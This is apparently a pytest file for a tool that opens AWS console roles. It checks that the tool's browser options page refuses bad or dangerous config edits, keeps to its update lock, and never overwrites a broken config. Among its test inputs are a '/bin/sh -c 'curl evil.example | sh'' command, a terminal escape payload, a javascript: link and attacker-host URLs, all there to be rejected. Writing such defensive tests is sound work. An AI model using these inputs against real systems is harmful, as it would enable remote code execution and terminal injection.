"""Issue 26, point 3, host side: the options page's edits (protocol 7) spoken to the real
binary: config.read, role.update, gateway.update, settings.update. Each field is checked by
the CLI's rules and a refusal names it (`data.field`) and changes nothing; edits are saved
under the CLI's update lock, from the file as it is then; a config that does not parse is
never written; catalogue roles, keys, MFA devices, commands, gateway regions and the
browser executable cannot be changed from the browser (docs/SECURITY.md)."""

import fcntl
import hashlib
import json
import threading
import time

import pytest

from conftest import MFA_SERIAL


def ok(reply):
    assert "result" in reply, reply
    return reply["result"]


def refused(reply, kind="invalid_value"):
    assert "error" in reply, reply
    err = reply["error"]
    assert err["data"]["kind"] == kind, err
    return err


def setup(rc):
    rc.add_gateway(mfa=True)
    rc.add_role("prod", "111111111111", "Admin", "corp", "--label", "Production", "--group", "Acme")
    rc.add_role("dev", "222222222222", "Dev", "corp")
    rc.add_sso()
    rc.add_sso_role("acme-admin")


def listed(h, role_id):
    roles = ok(h.call("roles.list"))["roles"]
    return next(r for r in roles if r["id"] == role_id)


def test_config_read_says_what_can_be_edited_and_nothing_secret(rc):
    setup(rc)
    h = rc.host()
    view = ok(h.call("config.read", {"roles": ["prod", "acme-admin", "gone"]}))
    assert view["gateways"] == [{"name": "corp", "mfa": True, "mfa_mode": "per_role", "mfa_session_hours": 12, "roles": 2}]
    assert view["sso"] == [{"name": "acme", "start_url": "https://acme.awsapps.com/start", "region": "eu-west-1", "roles": 1}]
    assert view["settings"] == {"renew_before_minutes": 10, "auto_renew": True, "notifications": True}
    prod, sso = view["roles"]
    assert (prod["id"], prod["editable"], prod["catalog"], prod["label"], prod["group"]) == ("prod", True, None, "Production", "Acme")
    assert (prod["color"], prod["icon"], prod["risk"], prod["region"], prod["links"]) == (None, None, None, None, [])
    assert prod["defaults"] == {"label": "prod", "color": prod["defaults"]["color"], "icon": "briefcase", "region": "us-east-1"}
    assert prod["defaults"]["color"] in view["choices"]["colors"]
    assert (sso["source"], sso["source_name"], sso["defaults"]["region"]) == ("sso", "acme", "eu-west-1")
    assert view["unknown"] == ["gone"] and view["more"] == []
    choices = view["choices"]
    assert choices["colors"][:8] == ["blue", "turquoise", "green", "yellow", "orange", "red", "pink", "purple"]
    assert "briefcase" in choices["icons"] and choices["risks"] == ["production"]
    assert choices["regions"]["aws-us-gov"] == ["us-gov-west-1", "us-gov-east-1"] and "eu-west-1" in choices["regions"]["aws"]
    assert (choices["mfa_session_hours"], choices["renew_before_minutes"], choices["label"]) == ([1, 36], [1, 60], 128)
    # No key, MFA device, keyring service or path beyond the config's own.
    text = json.dumps(view)
    for secret in [rc.aws.gateway_keys[0], rc.aws.gateway_keys[1], MFA_SERIAL, "mfa_serial", rc.env["ROLECALL_KEYRING_SERVICE"]]:
        assert secret not in text
    # Without roles: none; more than 20, or an id no config could hold: invalid_params.
    assert ok(h.call("config.read"))["roles"] == []
    refused(h.call("config.read", {"roles": [f"r{i}" for i in range(21)]}), "invalid_params")
    refused(h.call("config.read", {"roles": ["a/../b"]}), "invalid_params")
    refused(h.call("config.read", {"gateway": "corp"}), "invalid_params")
    assert h.close() == 0


def test_role_update_saves_the_fields_given_and_the_listing_shows_it_at_once(rc):
    setup(rc)
    h = rc.host()
    before = ok(h.call("roles.list", {"compact": True}))["etag"]
    got = ok(h.call("role.update", {
        "role": "prod", "label": "Prod EU", "group": "Platform", "color": "green", "icon": "fence",
        "risk": "production", "region": "eu-central-1",
        "links": [{"name": "Buckets", "destination": "/s3/buckets"}, {"name": "Alarms", "destination": "https://eu-central-1.console.aws.amazon.com/cloudwatch/home"}],
    }))
    assert got["changed"] is True
    assert (got["role"]["label"], got["role"]["region"], got["role"]["risk"]) == ("Prod EU", "eu-central-1", "production")
    # The same host's next listing has a new etag and the new values.
    page = ok(h.call("roles.list", {"compact": True, "if_none_match": before}))
    assert page.get("unchanged") is not True and page["etag"] != before
    prod = next(r for r in page["roles"] if r["id"] == "prod")
    # A production role's container is red whatever colour it names (green applies if it no
    # longer is one).
    assert (prod["label"], prod["group"], prod["color"], prod["icon"], prod["risk"], prod["region"]) == ("Prod EU", "Platform", "red", "fence", "production", "eu-central-1")
    assert [l["name"] for l in prod["links"]] == ["Buckets", "Alarms"]
    # The file holds them; what was not given is as it was.
    config = rc.config_text()
    assert 'label = "Prod EU"' in config and 'color = "green"' in config
    assert 'account_id = "111111111111"' in config and 'role_name = "Admin"' in config
    # Null and "" go back to the default; the rest stays.
    got = ok(h.call("role.update", {"role": "prod", "label": "", "color": None, "links": [], "risk": None}))
    assert got["role"]["label"] is None and got["role"]["group"] == "Platform"
    prod = listed(h, "prod")
    assert (prod["label"], prod["links"], prod["risk"]) == ("prod", [], None)
    # The same values again: answered, not written (the listing keeps its etag).
    etag = ok(h.call("roles.list", {"compact": True}))["etag"]
    assert ok(h.call("role.update", {"role": "prod", "group": "Platform"}))["changed"] is False
    assert ok(h.call("roles.list", {"compact": True, "if_none_match": etag})).get("unchanged") is True
    # An SSO role is edited the same way.
    assert ok(h.call("role.update", {"role": "acme-admin", "label": "Acme admin"}))["role"]["label"] == "Acme admin"
    refused(h.call("role.update", {"role": "nope", "label": "x"}), "unknown_role")
    assert h.close() == 0


HOSTILE = "\x1b]52;c;cGF5bG9hZA==\x07PWNED"

# params, field, index, words of the message
ROLE_REFUSALS = [
    ({"label": "x" * 129}, "label", None, "its label is 129 characters long; a label has at most 128"),
    ({"label": "   "}, "label", None, "its label is empty"),
    ({"label": HOSTILE}, "label", None, "its label holds the control character U+001B"),
    ({"label": "\u202enimda"}, "label", None, "control character U+202E"),
    ({"label": 5}, "label", None, "'label' must be a string"),
    ({"group": "G" * 65}, "group", None, "its group is 65 characters long; a group has at most 64"),
    ({"color": "mauve"}, "color", None, "colour 'mauve' is not a Firefox container colour (blue, turquoise"),
    ({"color": HOSTILE}, "color", None, f"the colour given ({len(HOSTILE)} characters) is not a Firefox container colour"),
    ({"icon": "skull"}, "icon", None, "icon 'skull' is not a Firefox container icon"),
    ({"color": "red"}, "color", None, "red is kept for production roles, and this role is not one"),
    ({"risk": "high"}, "risk", None, "'risk' must be \"production\""),
    ({"region": "mars-1"}, "region", None, "region 'mars-1' is not an AWS region rolecall supports"),
    ({"region": "cn-north-1"}, "region", None, "region 'cn-north-1' is in partition aws-cn, and the role is in aws"),
    ({"links": [{"name": "Evil", "destination": "https://evil.example/"}]}, "links", 0, "link 'Evil': The destination https://evil.example/ is not a console page"),
    ({"links": [{"name": "S3", "destination": "/s3"}, {"name": "Run", "destination": "javascript:alert(1)"}]}, "links", 1, "link 'Run'"),
    ({"links": [{"name": "S3", "destination": "/s3"}, {"name": "S3", "destination": "/ec2"}]}, "links", 1, "link 'S3' has the name of an earlier link"),
    ({"links": [{"name": "x" * 65, "destination": "/s3"}]}, "links", 0, "link 1: its link name is 65 characters long"),
    ({"links": [{"name": f"l{i}", "destination": "/s3"} for i in range(33)]}, "links", None, "at most 32 links; 33 were given"),
    ({"links": [{"name": "S3", "destination": "/s3", "open_in": "isolated_window"}]}, "links", 0, "Link 1 must be"),
    ({"links": "Buckets=/s3"}, "links", None, "'links' must be a list"),
    ({"colour": "red"}, "colour", None, "role.update has no field 'colour'; it changes: label, group, color, icon, risk, region, links"),
    ({"account_id": "999999999999"}, "account_id", None, "role.update cannot change 'account_id'"),
]


@pytest.mark.parametrize("params,field,index,words", ROLE_REFUSALS, ids=[f"{c[1]}-{i}" for i, c in enumerate(ROLE_REFUSALS)])
def test_every_bad_role_value_names_its_field_and_changes_nothing(rc, params, field, index, words):
    setup(rc)
    before = rc.config_text()
    h = rc.host()
    etag = ok(h.call("roles.list", {"compact": True}))["etag"]
    err = refused(h.call("role.update", {"role": "prod", **params}))
    assert err["code"] == 1026
    assert err["data"]["field"] == field, err
    assert err["data"].get("index") == index, err
    assert words in err["message"], err["message"]
    assert err["message"].endswith("Nothing was changed."), err["message"]
    # Never echoed: no escape, bell, bidi control or payload in the message, data or log.
    for shown in (err["message"], json.dumps(err["data"]), h.stderr):
        assert "PWNED" not in shown and "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert rc.config_text() == before
    assert ok(h.call("roles.list", {"compact": True, "if_none_match": etag})).get("unchanged") is True
    assert ok(h.call("host.info"))["protocol"] == 7, "the host keeps serving"
    assert h.close() == 0


def test_the_cli_and_the_options_page_refuse_with_the_same_rules(rc):
    """The rules are one piece of code (store/config/edit.rs): the same value, the same words."""
    setup(rc)
    h = rc.host()
    for flag, value, params in [
        ("--color", "mauve", {"color": "mauve"}),
        ("--color", "red", {"color": "red"}),
        ("--label", "x" * 129, {"label": "x" * 129}),
        ("--region", "cn-north-1", {"region": "cn-north-1"}),
        ("--link", "Evil=https://evil.example/", {"links": [{"name": "Evil", "destination": "https://evil.example/"}]}),
    ]:
        r = rc.cli("role", "set", "prod", flag, value)
        assert r.returncode != 0
        message = refused(h.call("role.update", {"role": "prod", **params}))["message"]
        assert message.strip() in r.stderr, (message, r.stderr)
    r = rc.cli("gateway", "set", "corp", "--mfa-session-hours", "37")
    message = refused(h.call("gateway.update", {"gateway": "corp", "mfa_session_hours": 37}))["message"]
    assert r.returncode != 0 and message in r.stderr, (message, r.stderr)
    assert h.close() == 0


def test_gateway_update_sets_the_mfa_mode_and_the_session_length_opens_use(rc, aws):
    setup(rc)
    h = rc.host()
    got = ok(h.call("gateway.update", {"gateway": "corp", "mfa_mode": "daily", "mfa_session_hours": 8}))
    assert got == {"changed": True, "gateway": {"name": "corp", "mfa": True, "mfa_mode": "daily", "mfa_session_hours": 8, "roles": 2}}
    assert listed(h, "prod")["mfa_mode"] == "daily"
    # The next open spends its code on an 8-hour MFA session, as `gateway set` would make it.
    assert refused(h.call("console.open", {"role": "prod"}), "mfa_required")
    ok(h.call("console.open", {"role": "prod", "mfa_code": "123456"}))
    [gst] = [c for c in aws.stats()["sts_calls"] if c["action"] == "GetSessionToken"]
    assert gst["duration_seconds"] == str(8 * 3600)
    for params, field in [
        ({"mfa_session_hours": 37}, "mfa_session_hours"),
        ({"mfa_session_hours": 0}, "mfa_session_hours"),
        ({"mfa_session_hours": "8"}, "mfa_session_hours"),
        ({"mfa_mode": "weekly"}, "mfa_mode"),
    ]:
        before = rc.config_text()
        assert refused(h.call("gateway.update", {"gateway": "corp", **params}))["data"]["field"] == field
        assert rc.config_text() == before
    got = ok(h.call("gateway.update", {"gateway": "corp", "mfa_mode": "per_role", "mfa_session_hours": None}))
    assert got["gateway"]["mfa_mode"] == "per_role" and got["gateway"]["mfa_session_hours"] == 12
    assert "mfa_session_hours" not in rc.config_text()
    refused(h.call("gateway.update", {"gateway": "nope", "mfa_mode": "daily"}), "unknown_gateway")
    refused(h.call("gateway.update", {"gateway": "corp"}), "invalid_params")
    assert h.close() == 0


def test_settings_update_and_host_info_agree(rc):
    setup(rc)
    h = rc.host()
    got = ok(h.call("settings.update", {"renew_before_minutes": 15, "auto_renew": False, "notifications": False}))
    assert got == {"changed": True, "settings": {"renew_before_minutes": 15, "auto_renew": False, "notifications": False}}
    assert ok(h.call("host.info"))["settings"] == got["settings"]
    assert "notifications = false" in rc.config_text()
    for params, field in [
        ({"renew_before_minutes": 0}, "renew_before_minutes"),
        ({"renew_before_minutes": 61}, "renew_before_minutes"),
        ({"renew_before_minutes": 1.5}, "renew_before_minutes"),
        ({"auto_renew": "yes"}, "auto_renew"),
        ({"notifications": None}, "notifications"),
        ({"theme": "dark"}, "theme"),
    ]:
        before = rc.config_text()
        assert refused(h.call("settings.update", params))["data"]["field"] == field
        assert rc.config_text() == before
    ok(h.call("settings.update", {"renew_before_minutes": None, "notifications": True}))
    assert ok(h.call("host.info"))["settings"] == {"renew_before_minutes": 10, "auto_renew": False, "notifications": True}
    assert h.close() == 0


SHARED = """\
[[role]]
id = "shared-prod"
account_id = "333333333333"
role_name = "Admin"
gateway = "team"
label = "Shared production"
"""


def test_a_catalogue_role_is_read_only(rc, tmp_path):
    setup(rc)
    cat = tmp_path / "platform.toml"
    cat.write_text(SHARED)
    r = rc.cli("catalog", "add", "platform", "--file", str(cat), "--map", "team=corp")
    assert r.returncode == 0, r.stderr
    before = rc.config_text()
    h = rc.host()
    err = refused(h.call("role.update", {"role": "shared-prod", "label": "Mine"}), "read_only_role")
    assert err["code"] == 1027
    assert err["data"] == {"kind": "read_only_role", "field": "role", "role": "shared-prod", "catalog": "platform"}
    assert "comes from catalogue 'platform' and is read-only here" in err["message"]
    assert rc.config_text() == before and cat.read_text() == SHARED
    [view] = ok(h.call("config.read", {"roles": ["shared-prod"]}))["roles"]
    assert (view["editable"], view["catalog"], view["label"]) == (False, "platform", "Shared production")
    # The CLI says the same.
    r = rc.cli("role", "set", "shared-prod", "--label", "Mine")
    assert r.returncode != 0 and "comes from catalogue 'platform' and is read-only here" in r.stderr
    assert h.close() == 0


def keyring_keys(rc):
    [g] = json.loads(rc.cli("gateway", "list", "--json").stdout)
    return g


FORBIDDEN = [
    ("gateway.update", {"gateway": "corp", "mfa_process": "/bin/sh -c 'curl evil.example | sh'"}, "mfa_process"),
    ("gateway.update", {"gateway": "corp", "access_key_id": "AKIAIOSFODNN7EXAMPLE"}, "access_key_id"),
    ("gateway.update", {"gateway": "corp", "secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}, "secret_access_key"),
    ("gateway.update", {"gateway": "corp", "keys": {"access_key_id": "AKIAIOSFODNN7EXAMPLE"}}, "keys"),
    ("gateway.update", {"gateway": "corp", "region": "us-west-2"}, "region"),
    ("gateway.update", {"gateway": "corp", "mfa_serial": "arn:aws:iam::999999999999:mfa/evil"}, "mfa_serial"),
    ("gateway.update", {"gateway": "corp", "session_name": "evil"}, "session_name"),
    ("gateway.update", {"gateway": "corp", "name": "other"}, "name"),
    ("role.update", {"role": "prod", "gateway": "other"}, "gateway"),
    ("role.update", {"role": "prod", "sso": "acme"}, "sso"),
    ("role.update", {"role": "prod", "role_name": "OrganizationAccountAccessRole"}, "role_name"),
    ("role.update", {"role": "prod", "external_id": "x" * 8}, "external_id"),
    ("role.update", {"role": "prod", "duration_seconds": 900}, "duration_seconds"),
    ("settings.update", {"browser_exe": "/bin/sh"}, "browser_exe"),
    ("settings.update", {"issuer": "evil"}, "issuer"),
    ("settings.update", {"timeout_seconds": 1}, "timeout_seconds"),
    ("settings.update", {"catalog": [{"name": "evil", "url": "https://evil.example/c.toml"}]}, "catalog"),
]


def test_nothing_that_runs_a_command_or_moves_a_secret_can_be_set(rc, aws):
    setup(rc)
    before = rc.config_text()
    keys = keyring_keys(rc)
    h = rc.host()
    for method, params, field in FORBIDDEN:
        err = refused(h.call(method, params))
        assert err["data"]["field"] == field, (method, err)
        assert "Nothing was changed." in err["message"]
        assert "evil" not in err["message"] and "EXAMPLE" not in err["message"], err["message"]
        # Even beside a field that may be changed, nothing is saved.
        target = {k: v for k, v in params.items() if k in ("role", "gateway")}
        allowed = {"gateway.update": {"mfa_mode": "daily"}, "role.update": {"label": "x"}, "settings.update": {"auto_renew": False}}[method]
        refused(h.call(method, {**target, **allowed, **{field: params[field]}}))
        assert rc.config_text() == before, (method, field)
    # No method is there for them either.
    for method in ["gateway.set", "gateway.add", "catalog.add", "config.write", "keys.update"]:
        refused(h.call(method, {"gateway": "corp"}), "unknown_method")
    assert keyring_keys(rc) == keys
    # The gateway's own keys still open its roles.
    h2 = rc.host()
    refused(h2.call("console.open", {"role": "prod"}), "mfa_required")
    ok(h2.call("console.open", {"role": "prod", "mfa_code": "123456"}))
    assert [c["access_key_id"] for c in aws.stats()["sts_calls"]][-1] == aws.gateway_keys[0]
    assert h.close() == 0 and h2.close() == 0


def hold_update_lock(rc, seconds, change=None):
    """Holds the config's update lock as a rolecall command does (flock on .config.toml.lock)
    for `seconds`, making `change` to the file meanwhile. Returns the thread and an event set
    once the lock is held."""
    held = threading.Event()

    def run():
        with open(rc.config_dir / ".config.toml.lock", "a+") as f:
            fcntl.flock(f, fcntl.LOCK_EX)
            held.set()
            time.sleep(seconds)
            if change:
                change()
            fcntl.flock(f, fcntl.LOCK_UN)

    t = threading.Thread(target=run)
    t.start()
    assert held.wait(10)
    return t


def test_an_edit_waits_for_a_command_holding_the_lock_and_loses_nothing(rc):
    setup(rc)
    path = rc.config_dir / "config.toml"
    # The command adds a role while it holds the lock; the edit waits and builds on that.
    added = '\n[[role]]\nid = "added"\naccount_id = "555555555555"\nrole_name = "Admin"\ngateway = "corp"\n'
    holder = hold_update_lock(rc, 1.5, lambda: path.write_text(path.read_text() + added))
    h = rc.host()
    started = time.monotonic()
    got = ok(h.call("role.update", {"role": "prod", "label": "Waited"}))
    waited = time.monotonic() - started
    holder.join()
    assert got["changed"] and waited >= 1.0, waited
    config = rc.config_text()
    assert 'id = "added"' in config and 'label = "Waited"' in config, config
    # Two hosts editing at once: both changes land.
    h2 = rc.host()
    a = h.request("role.update", {"role": "prod", "color": "green"})
    b = h2.request("settings.update", {"notifications": False})
    assert h.recv()["id"] == a and h2.recv()["id"] == b
    config = rc.config_text()
    assert 'color = "green"' in config and "notifications = false" in config
    assert h.close() == 0 and h2.close() == 0


def test_an_edit_says_so_when_a_command_holds_the_lock_too_long(rc):
    setup(rc)
    before = rc.config_text()
    holder = hold_update_lock(rc, 12)
    h = rc.host()
    started = time.monotonic()
    err = refused(h.call("role.update", {"role": "prod", "label": "Late"}), "config_busy")
    assert 9 <= time.monotonic() - started < 12
    assert err["code"] == 1028 and err["data"]["path"].endswith("config.toml")
    assert "Another rolecall command has been changing the config" in err["message"]
    assert ".config.toml.lock" in err["message"] and "Nothing was changed." in err["message"]
    holder.join()
    assert rc.config_text() == before
    # Once it is free, the same edit goes through.
    assert ok(h.call("role.update", {"role": "prod", "label": "Late"}))["changed"]
    assert h.close() == 0


def test_a_config_that_does_not_parse_is_never_overwritten(rc):
    setup(rc)
    path = rc.config_dir / "config.toml"
    broken = rc.config_text() + "\n[[role]]\nid = \n"
    path.write_text(broken)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    h = rc.host()
    for method, params in [
        ("role.update", {"role": "prod", "label": "x"}),
        ("gateway.update", {"gateway": "corp", "mfa_mode": "daily"}),
        ("settings.update", {"auto_renew": False}),
    ]:
        err = refused(h.call(method, params), "config_invalid")
        assert err["data"]["path"] == str(path)
    refused(h.call("config.read", {"roles": ["prod"]}), "config_invalid")
    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
    assert list(rc.config_dir.glob("*.tmp*")) == [] and sorted(p.name for p in rc.config_dir.iterdir()) == [".config.toml.lock", "config.toml"]
    assert ok(h.call("host.info"))["protocol"] == 7
    assert h.close() == 0
